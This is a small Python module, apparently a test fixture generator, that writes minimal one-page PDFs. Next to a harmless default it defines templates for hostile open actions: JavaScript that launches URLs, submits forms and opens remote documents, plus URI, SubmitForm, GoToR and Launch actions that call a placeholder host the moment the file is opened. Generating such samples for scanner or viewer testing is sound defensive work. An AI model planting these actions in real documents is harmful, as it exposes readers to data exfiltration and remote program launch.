"""Writes small whole PDF files, harmless and other."""

_OBJECTS = (
    "<</Type/Catalog/Pages 2 0 R/OpenAction {action}>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Resources<</Font<</F1 4 0 R>>>>/Contents 5 0 R>>",
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
)

ACTIONS = (
    r"<</S/JavaScript/JS(app.launchURL\('{url}/launch'\);this.submitForm\('{url}/submit'\);)>>",
    r"<</S/JavaScript/JS(this.getURL\('{url}/get'\);app.openDoc\('{url}/open'\);)>>",
    "<</S/URI/URI({url}/uri)>>",
    "<</S/SubmitForm/F<</FS/URL/F({url}/form)>>/Flags 4>>",
    "<</S/GoToR/F<</FS/URL/F({url}/remote.pdf)>>/D[0/Fit]>>",
    "<</S/Launch/F({url}/program)>>",
)
"""What a hostile PDF does as soon as it is opened; ``{url}`` is where it calls."""


NOTHING = "[3 0 R/Fit]"
"""Shows its only page."""


def pdf(words: str, action: str = NOTHING) -> bytes:
    """Write a PDF of one page with some ASCII words, and what happens when it is opened."""
    stream = f"BT /F1 24 Tf 20 100 Td ({words}) Tj ET"
    last = f"<</Length {len(stream)}>>stream\n{stream}\nendstream"
    objects = [one.replace("{action}", action) for one in _OBJECTS] + [last]
    out, places = b"%PDF-1.4\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{one}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    end += f"trailer<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{len(out)}\n%%EOF"
    return out + end.encode()
